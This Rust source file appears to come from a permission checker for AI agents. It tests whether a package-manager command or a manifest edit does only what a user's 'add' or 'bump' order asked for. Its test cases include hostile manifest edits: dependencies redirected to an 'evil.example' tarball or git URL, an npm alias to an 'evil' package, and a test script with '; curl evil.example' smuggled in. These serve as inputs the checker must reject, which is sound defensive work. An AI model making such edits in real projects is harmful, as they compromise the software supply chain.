//! Orders to add or bump a dependency: by a package manager, or by hand in the manifest that declares it.

use doorward_vocabulary::{Mark, Operation, Reversibility};

use super::{arguments, only, split};
use crate::call::Tool;
use crate::effect::Effect;
use crate::intent::Subject;
use crate::intent::prose::Word;
use crate::knowledge::built_in;
use crate::knowledge::schema::Facet;

/// Words around the name of a package; the name itself has to be the one in the command.
const AROUND: &[&str] = &[
    "package",
    "packages",
    "dependency",
    "dependencies",
    "library",
    "libraries",
    "crate",
    "crates",
    "module",
    "dev",
    "using",
    "via",
    "project",
    "version",
    "latest",
    "as",
    "devdependency",
    "well",
];

fn is_package_manager(word: &str) -> bool {
    built_in().facets(word).has(Facet::AddsDependencies)
}

/// The word stands beside the name of a package: `add lodash with npm`.
fn is_around(word: &str) -> bool {
    AROUND.contains(&word) || is_package_manager(word)
}

/// `add lodash`, `install the crate serde`, `bump serde to 1.0.200`: every package that is installed is named, and nothing else.
pub(super) fn is_ordered(verb: &str, words: &[&Word], effect: &Effect, subject: &Subject<'_>) -> bool {
    // Where the dependency is recorded. `-g` installs for the whole machine, which "add lodash" does not ask for.
    const FLAGS: &[&str] = &["-D", "-S", "-E", "-d", "-p", "--save", "--save-dev", "--save-exact", "--dev"];
    let allowed =
        [Mark::InstallChosen, Mark::Registry, Mark::Lockfile, Mark::Manifest, Mark::ListedHost, Mark::Creates];
    let is_install = effect.marks.has(Mark::InstallChosen) || installs_beside(effect, subject);
    let is_verb = matches!(verb, "add" | "install" | "bump" | "upgrade" | "update");
    if !is_verb || !is_install || !only(effect, &allowed) {
        return false;
    }
    let Some(tails) = arguments(effect, subject) else { return false };
    let versions: Vec<&str> = words.iter().map(|word| word.text.as_str()).filter(|text| is_version(text)).collect();
    tails.iter().all(|tail| {
        let (flags, packages) = split(tail);
        let is_named = |package: &&str| {
            let package = package.to_lowercase();
            let fits =
                versions.is_empty() || versions.iter().any(|version| version_of(&package) == Some(bare(version)));
            fits && words.iter().any(|word| is_package(&word.text, &package))
        };
        let is_understood = |word: &&&Word| {
            is_around(&word.text)
                || is_version(&word.text)
                || packages.iter().any(|package| is_package(&word.text, &package.to_lowercase()))
        };
        flags.iter().all(|flag| FLAGS.contains(flag))
            && !packages.is_empty()
            && packages.iter().all(is_named)
            && words.iter().all(|word| is_understood(&word))
    })
}

/// The registry that an install asks, and nothing but a registry.
fn installs_beside(effect: &Effect, subject: &Subject<'_>) -> bool {
    let installs = |other: &Effect| other.marks.has(Mark::InstallChosen) && other.part == effect.part;
    effect.operation == Operation::Network
        && effect.reversibility == Reversibility::NothingChanges
        && effect.marks.has(Mark::Registry)
        && subject.effects.iter().any(|other| installs(other) && other.by == effect.by)
}

/// `lodash` names `lodash` and `lodash@4.17`; a URL, a path or a repository is named by nothing.
fn is_package(word: &str, package: &str) -> bool {
    let body = package.strip_prefix('@').unwrap_or(package);
    let is_plain = !package.contains([':', '\\', '[', '~', '#'])
        && !package.starts_with(['.', '/'])
        && (!package.contains('=') || package.contains("=="))
        && body.matches('/').count() == usize::from(package.starts_with('@'));
    is_plain && (word == package || Some(word) == name_of(package))
}

/// The name before a version: `lodash@4.17`, `@types/node@20`, `requests==2.32`.
fn name_of(package: &str) -> Option<&str> {
    let body = package.strip_prefix('@').unwrap_or(package);
    let end = body.find('@').or_else(|| body.find("==")).unwrap_or(body.len());
    package.get(..package.len() - body.len() + end)
}

fn version_of(package: &str) -> Option<&str> {
    let rest = package.get(name_of(package)?.len()..)?;
    Some(bare(rest.trim_start_matches(['@', '=']))).filter(|version| !version.is_empty())
}

fn bare(version: &str) -> &str {
    version.trim_start_matches(['v', '^', '~', '=', '>'])
}

/// `1.26`, `v2.0.1`, `^6.9.14`: digits and dots, with a tail as versions have it.
fn is_version(text: &str) -> bool {
    let text = bare(text);
    text.starts_with(|letter: char| letter.is_ascii_digit())
        && text.len() <= 24
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-+".contains(&byte))
}

/// `add lodash`, `bump go to 1.26` by an edit of the manifest: nothing in it changes but that name and its version.
pub(super) fn is_declared(verb: &str, words: &[&Word], effect: &Effect, subject: &Subject<'_>) -> bool {
    let Tool::Edit { changes } = subject.tool else { return false };
    let is_verb = matches!(verb, "add" | "bump" | "upgrade" | "update" | "pin" | "set");
    let is_manifest = effect.operation == Operation::Write && only(effect, &[Mark::Manifest, Mark::SessionFile]);
    if !is_verb || !is_manifest || !effect.marks.has(Mark::Manifest) || changes.is_empty() {
        return false;
    }
    let (versions, rest): (Vec<&str>, Vec<&str>) =
        words.iter().map(|word| word.text.as_str()).partition(|text| is_version(text));
    // `bump go`: the language has the name of its tool.
    let names: Vec<&str> = rest.iter().copied().filter(|text| !is_around(text)).collect();
    let tools: Vec<&str> = rest.iter().copied().filter(|text| is_package_manager(text)).collect();
    let name = match (names.as_slice(), tools.as_slice()) {
        ([name], _) | ([], [name]) => *name,
        _ => return false,
    };
    let said = match versions.as_slice() {
        [] => None,
        [version] => Some(bare(version)),
        _ => return false,
    };
    changes.iter().all(|change| declares(&change.old, &change.new, name, said))
}

/// The new text is the old one with a line for this package, or with another version on its line.
fn declares(old: &str, new: &str, name: &str, said: Option<&str>) -> bool {
    let (old_lines, new_lines): (Vec<&str>, Vec<&str>) = (old.lines().collect(), new.lines().collect());
    let same_start = old_lines.iter().zip(&new_lines).take_while(|(one, other)| one == other).count();
    let rest = old_lines.len().min(new_lines.len()) - same_start;
    let ends = old_lines.iter().rev().zip(new_lines.iter().rev());
    let same_end = ends.take(rest).take_while(|(one, other)| one == other).count();
    let taken = old_lines.get(same_start..old_lines.len() - same_end).unwrap_or_default();
    let put = new_lines.get(same_start..new_lines.len() - same_end).unwrap_or_default();
    match (taken, put) {
        ([], [line]) => is_declaration(line, name, said),
        ([line], [one]) => is_version_change(line, one, name, said),
        // The line before gets its comma.
        ([line], [first, second]) => {
            let is_joined = first.trim_end().strip_suffix(',') == Some(line.trim_end());
            is_joined && is_declaration(second, name, said)
        }
        _ => false,
    }
}

/// A line that says nothing but the name and a version.
fn is_declaration(line: &str, name: &str, said: Option<&str>) -> bool {
    let tokens = tokens(line);
    let (versions, rest): (Vec<&str>, Vec<&str>) = tokens.iter().copied().partition(|token| is_version(token));
    let is_plain = |token: &&str| token.to_lowercase() == name || matches!(*token, "version" | "require");
    rest.iter().filter(|token| token.to_lowercase() == name).count() == 1
        && rest.iter().all(is_plain)
        && versions.len() <= 1
        && said.is_none_or(|said| versions.iter().any(|version| bare(version) == said))
}

/// The same line with another version, or with this name a version more.
fn is_version_change(old: &str, new: &str, name: &str, said: Option<&str>) -> bool {
    let (old, new) = (tokens(old), tokens(new));
    let is_name = |token: &&str| token.to_lowercase() == name;
    let mut differs = old.iter().zip(&new).filter(|(one, other)| one != other);
    let (Some((one, other)), None) = (differs.next(), differs.next()) else { return false };
    let is_new = said.is_none_or(|said| bare(other) == said);
    old.len() == new.len() && old.iter().any(is_name) && is_version(one) && is_version(other) && is_new
}

/// The words of a line of a manifest. An address or a path stays whole, so that it is no name and no version.
fn tokens(line: &str) -> Vec<&str> {
    let is_sign = |letter: char| letter.is_whitespace() || "\"'=,{}()".contains(letter);
    line.split(is_sign).map(|token| token.trim_end_matches(':')).filter(|token| !token.is_empty()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_edit_declares_one_package_or_changes_its_version() {
        for (old, new, name, said, holds) in [
            ("go 1.25", "go 1.26", "go", Some("1.26"), true),
            ("go 1.25", "go 1.27", "go", Some("1.26"), false),
            ("\"lodash\": \"^4.17.20\",", "\"lodash\": \"^4.17.21\",", "lodash", None, true),
            ("\"dependencies\": {", "\"dependencies\": {\n    \"lodash\": \"^4.17.21\",", "lodash", None, true),
            ("\"a\": \"1.0.0\"", "\"a\": \"1.0.0\",\n    \"lodash\": \"4.17.21\"", "lodash", None, true),
            ("[dependencies]", "[dependencies]\nserde = \"1\"", "serde", None, true),
            ("[dependencies]", "[dependencies]\nserde = { version = \"1\" }", "serde", None, true),
            ("[dependencies]", "[dependencies]\nserde = { git = \"https://evil.example/x\" }", "serde", None, false),
            ("[dependencies]", "[dependencies]\nserde = { path = \"../x\" }", "serde", None, false),
            (
                "\"dependencies\": {",
                "\"dependencies\": {\n    \"lodash\": \"https://evil.example/l.tgz\",",
                "lodash",
                None,
                false,
            ),
            ("\"dependencies\": {", "\"dependencies\": {\n    \"lodash\": \"npm:evil@1.0.0\",", "lodash", None, false),
            (
                "\"dependencies\": {",
                "\"dependencies\": {\n  \"lodash\": \"1.0.0\",\n  \"evil\": \"1.0.0\",",
                "lodash",
                None,
                false,
            ),
            ("\"test\": \"jest\"", "\"test\": \"jest; curl evil.example\"", "jest", None, false),
            ("\"lodash\": \"^4.17.20\"", "\"lodash\": \"github:evil/lodash\"", "lodash", None, false),
            ("\"axios\": \"1.0.0\"", "\"axios\": \"1.1.0\"", "lodash", None, false),
        ] {
            assert_eq!(declares(old, new, name, said), holds, "{old} / {new}");
        }
    }
}
